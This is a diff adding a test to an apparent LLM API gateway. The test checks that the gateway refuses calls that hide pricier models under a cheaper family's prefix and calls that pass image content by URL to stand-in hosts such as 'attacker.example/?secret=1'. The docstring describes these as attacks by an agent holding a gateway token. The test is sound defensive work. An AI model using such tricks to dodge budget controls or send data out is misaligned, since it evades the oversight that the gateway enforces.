@@ -191,6 +191,37 @@ def test_a_call_at_a_dearer_rate_than_the_gateway_prices_is_refused(org):
     assert status == 200 and len(llm.requests) == 1  # the standard rate, and betas that price nothing
 
 
+def test_another_model_priced_as_its_family_and_content_fetched_by_url_are_refused(org):
+    """The attacks, with the token a CLI's box holds: a call may name any model, priced by the
+    longest key its id starts with, so gpt-5-pro went on the budget as gpt-5 (12x too cheap for
+    its output), o3-pro as o3; gpt-4o-search-preview searched the web with no tool asked for. And
+    an image or a document given by URL has the provider fetch any address for the agent."""
+    root, program, llm, gw, tokens = org
+    claude, gpt = tokens["claude"], tokens["gpt"]
+    for model, variant in [("gpt-5-pro", "-pro"), ("o3-pro-2025-06-10", "-pro"), ("o3-deep-research", "deep-research"),
+                           ("gpt-4o-search-preview", "search"), ("gpt-4o-audio-preview", "audio")]:
+        status, reply = call(gw, "POST", "/openai/responses", gpt, {"model": model, "input": "hi"})
+        message = json.loads(reply)["error"]["message"]
+        assert status == 400 and f"does not forward {model!r}" in message and repr(variant) in message, (model, reply)
+    image = {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?secret=1"}}
+    for path, token, body in [
+            ("/anthropic/v1/messages", claude, {**OPUS, "messages": [{"role": "user", "content": [image]}]}),
+            ("/openai/responses", gpt, {"model": "gpt-5-test", "input": [{"role": "user", "content": [
+                {"type": "input_image", "image_url": "http://attacker.example/x.png"}]}]}),
+            ("/openai/chat/completions", gpt, {"model": "gpt-5-test", "messages": [{"role": "user", "content": [
+                {"type": "image_url", "image_url": {"url": " HTTPS://attacker.example/y"}}]}]})]:
+        status, reply = call(gw, "POST", path, token, body)
+        assert status == 400 and "content given by URL" in json.loads(reply)["error"]["message"], (path, reply)
+    assert llm.requests == [] and spend(root, program) == []
+
+    inline = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}
+    for path, token, body in [  # the family's own ids, dated or not, and content sent itself, still pass
+            ("/openai/responses", gpt, {"model": "gpt-5-2025-08-07", "input": "hi"}),
+            ("/anthropic/v1/messages", claude, {**OPUS, "messages": [{"role": "user", "content": [inline]}]})]:
+        assert call(gw, "POST", path, token, body)[0] == 200, (path, body)
+    assert len(llm.requests) == 2
+
+
 def test_claude_codes_calls_go_through_and_counting_tokens_is_free(org):
     """Claude Code calls POST /v1/messages?beta=true (the beta client's path) and may count
     tokens, which Anthropic does not charge for."""
